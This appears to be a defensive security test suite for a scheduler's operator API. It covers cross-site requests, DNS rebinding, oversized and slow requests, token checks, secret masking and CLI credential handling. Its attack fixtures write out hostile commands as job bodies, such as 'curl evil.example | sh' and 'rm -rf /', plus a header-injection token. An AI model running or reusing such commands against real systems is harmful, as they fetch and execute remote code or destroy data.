/**
 * The operator API as an attacker would use it, over real HTTP on loopback against a real Sluice
 * (store on disk, runtime, the simulator as master): cross-site requests (content types, Origin,
 * Sec-Fetch-Site), DNS rebinding (Host), sizes, slow and many connections, tokens, secrets in
 * answers; and the CLI as a child process (broken pipe, credentials in --api).
 */
import { expect } from 'chai';
import { spawn } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import { ApiError, Router } from '../../src/api/router.js';
import { startApiServer, type ApiServer } from '../../src/api/server.js';
import { ConfigError, describeConfig, loadConfig } from '../../src/config.js';
import { banner, startSluice, type SluiceApp } from '../../src/app/app.js';
import { startSim, type Sim } from '../../src/sim/index.js';
import { VirtualClock } from '../../src/util/clock.js';
import { job } from '../e2e/maintenance-helpers.js';
import { quietLogger, tmpDir } from '../e2e/workload-helpers.js';
import { eventually, openIdle, request, seen, sleep, trickle, type RawRequest } from './http-helpers.js';

const CLI = path.resolve('dist/src/cli/main.js');

interface Target {
  sim: Sim;
  app: SluiceApp;
  url: string;
  port: number;
  dir: string;
  stop(): Promise<void>;
}

async function startTarget(flags: Record<string, string | string[] | boolean>, master?: (simUrl: string) => string): Promise<Target> {
  const clock = new VirtualClock();
  const logger = quietLogger();
  const sim = await startSim({ agents: 6, racks: 2, clock, seed: 3, taskStartupDelayMs: 500, logger });
  const dir = tmpDir('sluice-sec-');
  const cfg = loadConfig({ master: [master ? master(sim.url) : sim.url], store: path.join(dir, 'store'), 'api-listen': '127.0.0.1:0', 'no-demo': true, ...flags }, {});
  const app = await startSluice(cfg, { clock, logger, runtime: { tickMs: 1000, client: { random: () => 0.5 } } });
  return {
    sim,
    app,
    dir,
    url: app.api.url,
    port: app.api.port,
    async stop() {
      await app.stop();
      await sim.close();
    },
  };
}

/** A job spec as JSON text, and the routes an attacker wants, each with a body that would do harm. */
function attacks(dir: string): Array<{ what: string; r: RawRequest }> {
  const marker = path.join(dir, 'pwned');
  return [
    { what: 'create a job', r: { method: 'POST', path: '/api/v1/jobs', body: JSON.stringify(job('evil', 1, { command: { value: 'curl evil.example | sh', shell: true } })) } },
    { what: 'replace a job', r: { method: 'PUT', path: '/api/v1/jobs/web', body: JSON.stringify(job('web', 3, { command: { value: 'rm -rf /', shell: true } })) } },
    { what: 'delete a job', r: { method: 'DELETE', path: '/api/v1/jobs/web' } },
    {
      what: 'start a drain with post_drain',
      r: { method: 'POST', path: '/api/v1/hosts/maintenance/start', body: JSON.stringify({ hosts: ['agent-1'], post_drain: `touch ${marker}` }) },
    },
  ];
}

async function nothingChanged(t: Target): Promise<void> {
  const jobs = await request(t.url, { path: '/api/v1/jobs' });
  expect(jobs.body.jobs.map((j: { name: string }) => j.name)).to.deep.equal(['web']);
  const web = await request(t.url, { path: '/api/v1/jobs/web' });
  expect(web.body.version, 'job web untouched').to.equal(1);
  expect(web.body.spec.command.value).to.equal('sleep 36000');
  const hosts = await request(t.url, { path: '/api/v1/hosts' });
  expect(hosts.status).to.equal(200);
  expect(hosts.body.hosts, 'no host in maintenance').to.deep.equal([]);
  expect(fs.existsSync(path.join(t.dir, 'pwned'))).to.equal(false);
}

describe('security: the operator API over HTTP, as an attacker would use it', function () {
  this.timeout(60_000);
  let t: Target;
  before(async () => {
    t = await startTarget({ 'api-allowed-hosts': ['sluice.internal', 'proxy.example:8443'] });
    const c = await request(t.url, { method: 'POST', path: '/api/v1/jobs', headers: { 'content-type': 'application/json' }, body: JSON.stringify(job('web', 2)) });
    expect(c.status, c.text).to.equal(201);
  });
  after(async () => {
    await t?.stop();
    // No answer of this whole suite carried a CORS permission.
    for (const r of seen) for (const h of Object.keys(r.headers)) expect(h, `${r.status} ${r.text}`).not.to.match(/^access-control-/);
  });

  describe('cross-site requests (a web page on the same machine)', () => {
    const types: Array<string | undefined> = [
      'text/plain',
      'text/plain;charset=UTF-8',
      'application/x-www-form-urlencoded',
      'multipart/form-data; boundary=----x',
      undefined,
      'application/json-patch+json',
      'application/jsonx',
    ];
    for (const type of types) {
      it(`Content-Type ${type ?? '(none)'} on every mutating route → 415 and nothing changed`, async () => {
        for (const a of attacks(t.dir)) {
          const r = await request(t.url, { ...a.r, headers: { 'content-type': type } });
          expect(r.status, `${a.what}: ${r.text}`).to.equal(415);
          expect(r.body.error).to.match(/application\/json/);
        }
        await nothingChanged(t);
      });
    }

    it('application/json with charset=utf-8 is accepted (the control)', async () => {
      const r = await request(t.url, {
        method: 'POST',
        path: '/api/v1/sla/probe',
        headers: { 'content-type': 'application/json; charset=utf-8' },
        body: '{"hosts":["agent-1"]}',
      });
      expect(r.status, r.text).to.equal(200);
    });

    for (const origin of ['http://evil.example', 'null', `http://127.0.0.1:${1}`, 'http://localhost.evil.example', 'file://', 'https://sluice.internal.evil.example']) {
      it(`Origin ${origin} → 403 on every route, mutating ones change nothing`, async () => {
        for (const a of attacks(t.dir)) {
          const r = await request(t.url, { ...a.r, headers: { 'content-type': 'application/json', origin } });
          expect(r.status, `${a.what}: ${r.text}`).to.equal(403);
        }
        expect((await request(t.url, { path: '/api/v1/status', headers: { origin } })).status).to.equal(403);
        await nothingChanged(t);
      });
    }

    it('Sec-Fetch-Site: cross-site (a no-cors request without Origin) → 403', async () => {
      for (const a of attacks(t.dir)) {
        const r = await request(t.url, { ...a.r, headers: { 'content-type': 'application/json', 'sec-fetch-site': 'cross-site' } });
        expect(r.status, a.what).to.equal(403);
      }
      await nothingChanged(t);
      expect((await request(t.url, { path: '/api/v1/jobs', headers: { 'sec-fetch-site': 'same-origin' } })).status).to.equal(200);
    });

    it("the API's own origin is accepted", async () => {
      for (const origin of [`http://127.0.0.1:${t.port}`, `http://localhost:${t.port}`, 'http://sluice.internal', 'https://proxy.example:8443']) {
        const r = await request(t.url, { path: '/api/v1/jobs', headers: { origin } });
        expect(r.status, origin).to.equal(200);
      }
    });

    it('an OPTIONS preflight gets no CORS permission', async () => {
      const pre = await request(t.url, {
        method: 'OPTIONS',
        path: '/api/v1/jobs',
        headers: { origin: 'http://evil.example', 'access-control-request-method': 'POST', 'access-control-request-headers': 'content-type' },
      });
      expect(pre.status).to.equal(403);
      const plain = await request(t.url, { method: 'OPTIONS', path: '/api/v1/jobs' });
      expect(plain.status).to.equal(405);
      for (const r of [pre, plain]) expect(Object.keys(r.headers).filter((h) => h.startsWith('access-control-'))).to.deep.equal([]);
    });
  });

  describe('DNS rebinding (a hostile name resolving to 127.0.0.1)', () => {
    it('a foreign Host → 421, on reads and writes', async () => {
      for (const host of [`evil.example:${t.port}`, 'evil.example', `127.0.0.1:${t.port + 1}`, `localhost:${t.port}.evil.example`, `sluice.internal.evil.example:${t.port}`, '']) {
        const get = await request(t.url, { path: '/api/v1/status', headers: { host } });
        expect(get.status, `GET with Host ${host}`).to.be.oneOf(host === '' ? [400] : [421]);
        for (const a of attacks(t.dir)) {
          const r = await request(t.url, { ...a.r, headers: { host, 'content-type': 'application/json' } });
          expect(r.status, `${a.what} with Host ${host}`).to.be.oneOf(host === '' ? [400] : [421]);
        }
      }
      await nothingChanged(t);
    });

    it('no Host header at all → 400 (HTTP/1.0 included)', async () => {
      const r = await request(t.url, { path: '/api/v1/status', noHost: true }); // HTTP/1.1: Node itself refuses it
      expect(r.status).to.equal(400);
      const o = await trickle(t.port, 'POST /api/v1/jobs HTTP/1.0\r\nContent-Type: application/json\r\nContent-Length: 2\r\n\r\n{}', ' ', 60_000, 10_000);
      expect(o.received).to.match(/^HTTP\/1\.1 400/);
      expect(o.received).to.contain('missing Host header');
    });

    it('the listen address, localhost, [::1] and the configured names are accepted', async () => {
      for (const host of [`127.0.0.1:${t.port}`, `localhost:${t.port}`, `LOCALHOST:${t.port}`, `[::1]:${t.port}`, `sluice.internal:${t.port}`, 'sluice.internal', 'proxy.example:8443']) {
        const r = await request(t.url, { path: '/api/v1/status', headers: { host } });
        expect(r.status, `Host ${host}`).to.equal(200);
      }
      expect((await request(t.url, { path: '/api/v1/status', headers: { host: 'proxy.example:9999' } })).status).to.equal(421);
    });
  });

  describe('bodies', () => {
    it('a body over the limit gets its 413 JSON answer, not a reset connection', async () => {
      const big = JSON.stringify({ ...job('big', 1), environment: { PAD: 'x'.repeat(3 * 1024 * 1024) } });
      const r = await request(t.url, { method: 'POST', path: '/api/v1/jobs', headers: { 'content-type': 'application/json' }, body: big });
      expect(r.status).to.equal(413);
      expect(r.body).to.deep.include({ error: 'request body too large' });
      await nothingChanged(t);
    });

    it('malformed JSON → 400 with the parser message; JSON that is not an object → 400', async () => {
      const post = (p: string, body: string) => request(t.url, { method: 'POST', path: p, headers: { 'content-type': 'application/json' }, body });
      const bad = await post('/api/v1/jobs', '{"name": ');
      expect(bad.status).to.equal(400);
      expect(bad.body.error).to.equal('request body is not valid JSON');
      expect(bad.body.details).to.be.an('array').with.length(1);
      expect(bad.body.details[0].path).to.equal('');
      expect(bad.body.details[0].message).to.be.a('string').and.not.equal('');
      for (const p of ['/api/v1/jobs', '/api/v1/hosts/maintenance/start', '/api/v1/hosts/maintenance/complete', '/api/v1/hosts/maintenance/abort', '/api/v1/sla/probe']) {
        for (const body of ['null', '[]', '[{"hosts":["agent-1"]}]', '"agent-1"', '42', 'true']) {
          const r = await post(p, body);
          expect(r.status, `${p} ${body}: ${r.text}`).to.equal(400);
          expect(r.body.error).to.equal('request body must be a JSON object');
          expect(r.body.details[0], `${p} ${body}`).to.include({ path: '' });
        }
      }
      await nothingChanged(t);
    });
  });

  describe('slow and many connections (a server with short limits over the same router)', () => {
    let s: ApiServer;
    before(async () => {
      s = await startApiServer({
        listen: '127.0.0.1:0',
        router: t.app.router,
        limits: { headersTimeoutMs: 1000, requestTimeoutMs: 1500, keepAliveTimeoutMs: 500, maxConnections: 5 },
      });
    });
    after(() => s?.close());

    it('a body trickled 1 byte per 200 ms is cut after the request timeout', async () => {
      const head = `POST /api/v1/jobs HTTP/1.1\r\nHost: 127.0.0.1:${s.port}\r\nContent-Type: application/json\r\nContent-Length: 1000\r\n\r\n`;
      const o = await trickle(s.port, head, '{"name":"slow"', 200, 20_000);
      expect(o.closedAfterMs, 'cut well before the give-up time').to.be.below(12_000);
      if (o.received) expect(o.received).to.match(/^HTTP\/1\.1 408/);
      expect((await request(t.url, { path: '/api/v1/jobs/slow' })).status).to.equal(404);
    });

    it('headers trickled 1 byte per 200 ms are cut after the headers timeout', async () => {
      const o = await trickle(s.port, `GET /api/v1/status HTTP/1.1\r\nHost: 127.0.0.1:${s.port}\r\n`, 'X-Slow: aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa', 200, 20_000);
      expect(o.closedAfterMs).to.be.below(12_000);
    });

    it('connections over the cap are closed at once; service resumes when they go', async () => {
      const socks = await openIdle(s.port, 20);
      try {
        expect(await eventually(() => socks.filter((x) => x.closed()).length >= 15, 3000), 'over-cap connections closed').to.equal(true);
        // The idle ones within the cap are cut by the headers timeout too.
        expect(await eventually(() => socks.every((x) => x.closed()), 12_000), 'idle connections closed').to.equal(true);
      } finally {
        for (const x of socks) x.socket.destroy();
      }
      await sleep(100);
      expect((await request(s.url, { path: '/api/v1/status' })).status).to.equal(200);
    });

    it('oversized headers → 431', async () => {
      const r = await request(s.url, { path: '/api/v1/status', headers: { 'x-big': 'y'.repeat(20 * 1024) } });
      expect(r.status).to.equal(431);
    });
  });
});

describe('security: tokens and secrets', function () {
  this.timeout(60_000);
  const TOKEN = 'T0ken-abcdef-123456';
  const SECRET = 'Fr4mew0rkSecretValue';
  const PASSWORD = 'hunter2pass';
  let t: Target;
  before(async () => {
    t = await startTarget({ 'api-token': TOKEN, principal: 'sluice', secret: SECRET }, (u) => u.replace('http://', `http://alice:${PASSWORD}@`));
  });
  after(() => t?.stop());
  const auth = { authorization: `Bearer ${TOKEN}` };

  it('401 carries WWW-Authenticate: Bearer; the right token passes', async () => {
    for (const headers of [{}, { authorization: 'Bearer wrong' }, { authorization: `Basic ${Buffer.from('x:' + TOKEN).toString('base64')}` }]) {
      const r = await request(t.url, { path: '/api/v1/status', headers });
      expect(r.status).to.equal(401);
      expect(r.headers['www-authenticate']).to.equal('Bearer realm="sluice"');
    }
    const bad = await request(t.url, { method: 'POST', path: '/api/v1/jobs', headers: { 'content-type': 'application/json' }, body: JSON.stringify(job('x', 1)) });
    expect(bad.status).to.equal(401);
    expect((await request(t.url, { path: '/api/v1/status', headers: auth })).status).to.equal(200);
  });

  it('a token does not open the API to other origins or hosts', async () => {
    expect((await request(t.url, { path: '/api/v1/status', headers: { ...auth, origin: 'http://evil.example' } })).status).to.equal(403);
    expect((await request(t.url, { path: '/api/v1/status', headers: { ...auth, host: 'evil.example' } })).status).to.equal(421);
  });

  it('no answer carries the token, the framework secret or the master password', async () => {
    // Let the client try the credentialed master URL a few times (its errors reach /status).
    await sleep(300);
    const answers = [];
    for (const p of ['/api/v1/status', '/api/v1', '/health', '/api/v1/jobs', '/api/v1/hosts', '/metrics', '/nope']) {
      answers.push(await request(t.url, { path: p, headers: auth }));
    }
    answers.push(await request(t.url, { path: '/api/v1/status' }));
    answers.push(await request(t.url, { path: '/api/v1/status', headers: { host: 'evil.example' } }));
    answers.push(await request(t.url, { method: 'POST', path: '/api/v1/jobs', headers: { ...auth }, body: TOKEN }));
    answers.push(await request(t.url, { method: 'POST', path: '/api/v1/jobs', headers: { ...auth, 'content-type': 'application/json' }, body: `{"name": "${SECRET}`}));
    answers.push(await request(t.url, { method: 'POST', path: '/api/v1/jobs', headers: { ...auth, 'content-type': 'application/json' }, body: JSON.stringify({ ...job('leak', 1), name: PASSWORD + '!' }) }));
    answers.push(await request(t.url, { method: 'POST', path: '/api/v1/hosts/maintenance/start', headers: { ...auth, 'content-type': 'application/json' }, body: JSON.stringify({ hosts: [SECRET] }) }));
    const status = answers[0]!;
    expect(status.status).to.equal(200);
    for (const a of answers) {
      for (const s of [TOKEN, SECRET, PASSWORD]) expect(a.text, `${a.status}: ${a.text}`).not.to.contain(s);
    }
  });

  it('secrets and credentials reaching an answer through a route are masked (2xx, 503 details, 500)', async () => {
    // Routes of other modules may echo what they got from the client or the master: the server masks it.
    const router = new Router();
    const master = `http://alice:${PASSWORD}@m1.example:5050`;
    const shortPw = 'http://bob:x@m2.example:5050';
    router.get('/echo', () => ({ status: 200, body: { master, other: `${shortPw}/api/v1`, secret: SECRET } }));
    router.get('/unavailable', () => {
      throw new ApiError(503, 'no Mesos master reachable', `connect ECONNREFUSED ${master} (zk://carol:zkpass99@zk1:2181,zk2:2181/mesos)`);
    });
    router.get('/crash', () => {
      throw new Error(`unexpected answer from ${shortPw}: token=${TOKEN}`);
    });
    const s = await startApiServer({ listen: '127.0.0.1:0', router, token: TOKEN, secrets: [SECRET, master, shortPw] });
    try {
      const echo = await request(s.url, { path: '/echo', headers: auth });
      expect(echo.body).to.deep.equal({ master: 'http://***@m1.example:5050', other: 'http://***@m2.example:5050/api/v1', secret: '***' });
      const u = await request(s.url, { path: '/unavailable', headers: auth });
      expect(u.status).to.equal(503);
      expect(u.body.details).to.equal('connect ECONNREFUSED http://***@m1.example:5050 (zk://***@zk1:2181,zk2:2181/mesos)');
      const c = await request(s.url, { path: '/crash', headers: auth });
      expect(c.status).to.equal(500);
      for (const a of [echo, u, c]) for (const x of [PASSWORD, SECRET, TOKEN, 'bob:x', 'zkpass99']) expect(a.text).not.to.contain(x);
    } finally {
      await s.close();
    }
  });

  it('the banner and the config log show the master URL without its credentials', () => {
    const text = banner(t.app) + '\n' + describeConfig(t.app.config).join('\n');
    expect(text).to.contain('http://***@127.0.0.1:');
    for (const s of [PASSWORD, SECRET, TOKEN]) expect(text).not.to.contain(s);
  });
});

/** Runs the CLI as a child process; `closeStdout` closes the reading end at once (like `| head -0`). */
function runCli(args: string[], o: { closeStdout?: boolean; env?: NodeJS.ProcessEnv; cwd?: string } = {}): Promise<{ code: number | null; out: string; err: string }> {
  return new Promise((resolve) => {
    const child = spawn(process.execPath, [CLI, ...args], { cwd: o.cwd ?? process.cwd(), env: { PATH: process.env['PATH'], ...o.env }, stdio: ['ignore', 'pipe', 'pipe'] });
    let out = '';
    let err = '';
    if (o.closeStdout) child.stdout.destroy();
    else child.stdout.on('data', (d: Buffer) => (out += d.toString()));
    child.stderr.on('data', (d: Buffer) => (err += d.toString()));
    child.on('close', (code) => resolve({ code, out, err }));
  });
}

describe('security: configuration of the API exposure', () => {
  it('api_allowed_hosts comes from flag, environment or file; wildcards and URLs are refused', () => {
    const dir = tmpDir('sluice-sec-cfg-');
    fs.writeFileSync(path.join(dir, 'c.json'), JSON.stringify({ api_allowed_hosts: ['ops.example', 'proxy.example:8443'] }));
    expect(loadConfig({}, { SLUICE_API_ALLOWED_HOSTS: 'A.example, b.example:8080' }, dir).apiAllowedHosts).to.deep.equal(['a.example', 'b.example:8080']);
    expect(loadConfig({ config: 'c.json' }, {}, dir).apiAllowedHosts).to.deep.equal(['ops.example', 'proxy.example:8443']);
    expect(loadConfig({ 'api-allowed-hosts': ['x.example'] }, { SLUICE_API_ALLOWED_HOSTS: 'y.example' }, dir).apiAllowedHosts).to.deep.equal(['x.example']);
    expect(loadConfig({}, {}, dir).apiAllowedHosts).to.deep.equal([]);
    for (const bad of ['*', 'http://x.example', 'a b', 'x.example/path', 'u@x.example']) {
      expect(() => loadConfig({ 'api-allowed-hosts': [bad] }, {}, dir), bad).to.throw(ConfigError, /--api-allowed-hosts/);
    }
  });

  it('a non-loopback listen without a token is a configuration error; with a token it is accepted', () => {
    for (const listen of ['0.0.0.0:5070', '[::]:5070', '10.1.2.3:5070', 'sluice.example:5070']) {
      expect(() => loadConfig({ 'api-listen': listen }, {}), listen).to.throw(ConfigError, /without a token/);
      expect(loadConfig({ 'api-listen': listen }, { SLUICE_API_TOKEN: 'tok-123456' }).apiListen).to.equal(listen);
    }
    for (const listen of ['127.0.0.1:0', 'localhost:5070', '[::1]:5070']) expect(loadConfig({ 'api-listen': listen }, {}).apiListen).to.equal(listen);
  });
});

describe('security: sluice start and the CLI as child processes', function () {
  this.timeout(60_000);

  it('start refuses a non-loopback API without a token before anything starts (exit 2, no store)', async () => {
    const dir = tmpDir('sluice-sec-start-');
    const started = Date.now();
    const r = await runCli(['start', '--api-listen', '0.0.0.0:0', '--store', path.join(dir, 'store')], { cwd: dir });
    expect(r.code, r.err).to.equal(2);
    expect(r.err).to.match(/without a token/).and.to.match(/--api-token|SLUICE_API_TOKEN/);
    expect(Date.now() - started).to.be.below(20_000);
    expect(fs.readdirSync(dir), 'nothing created').to.deep.equal([]);
    expect(r.out).not.to.contain('Sluice is running');
  });

  it('a closed stdout (sluice … | head) ends quietly, without an EPIPE stack trace', async () => {
    for (const args of [['job', 'example'], ['help'], ['start', '--help']]) {
      const r = await runCli(args, { closeStdout: true });
      expect(r.err, args.join(' ')).not.to.match(/EPIPE|Error|at .*\.js/);
      expect(r.code, args.join(' ')).to.equal(0);
    }
  });

  it('--api with credentials is a usage error that never prints the password', async () => {
    for (const url of ['http://u:p4ssw0rd@127.0.0.1:1', 'http://u:p4ssw0rd@127.0.0.1:1/', 'u:p4ssw0rd@127.0.0.1:1']) {
      const r = await runCli(['job', 'list', '--api', url]);
      expect(r.code, r.err).to.equal(2);
      expect(r.err).to.match(/credentials/);
      expect(r.err + r.out).not.to.contain('p4ssw0rd');
      expect(r.err).not.to.match(/cannot reach/);
    }
    const env = await runCli(['host', 'query'], { env: { SLUICE_API: 'http://admin:p4ssw0rd@127.0.0.1:1' } });
    expect(env.code).to.equal(2);
    expect(env.err).to.contain('SLUICE_API');
    expect(env.err + env.out).not.to.contain('p4ssw0rd');
  });

  it('a token with a newline or control character is a usage error that never prints it', async () => {
    for (const token of ['s3cr3tvalue\n', 's3cr3tvalue\r\nX-Evil: 1', 'bad\x07s3cr3tvalue']) {
      const viaEnv = await runCli(['job', 'list', '--api', 'http://127.0.0.1:1'], { env: { SLUICE_API_TOKEN: token } });
      expect(viaEnv.code, viaEnv.err).to.equal(2);
      expect(viaEnv.err).to.match(/SLUICE_API_TOKEN/).and.to.match(/control character/);
      expect(viaEnv.err).not.to.contain('s3cr3tvalue');
      expect(viaEnv.err).not.to.match(/cannot reach/);
    }
    const viaFlag = await runCli(['job', 'list', '--api', 'http://127.0.0.1:1', '--api-token', 'tok\ns3cr3tvalue']);
    expect(viaFlag.code).to.equal(2);
    expect(viaFlag.err).to.contain('--api-token');
    expect(viaFlag.err).not.to.contain('s3cr3tvalue');
  });
});
